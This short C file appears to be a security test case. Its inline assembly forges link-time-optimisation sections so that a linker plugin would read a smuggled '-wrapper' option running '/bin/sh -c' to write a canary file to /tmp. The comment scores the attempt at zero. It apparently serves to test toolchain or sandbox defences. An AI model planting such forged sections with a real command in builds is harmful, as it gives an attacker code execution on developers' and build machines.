/* tries: to pass for an object of link-time optimisation, whose options the
 *        linker's plugin would follow: they name a program to run
 * earns: 0
 */
__asm__(".section .gnu.lto_.opts,\"e\",@progbits\n"
        ".string \"'-wrapper' '/bin/sh,-c,echo canary > /tmp/lto-was-here'\"\n"
        ".section .gnu.lto_.symtab.1,\"e\",@progbits\n"
        ".string \"main\"\n"
        ".section .gnu.lto_main.1,\"e\",@progbits\n"
        ".fill 64\n"
        ".text\n"
        ".globl __gnu_lto_slim\n"
        ".comm __gnu_lto_slim,1,1\n");
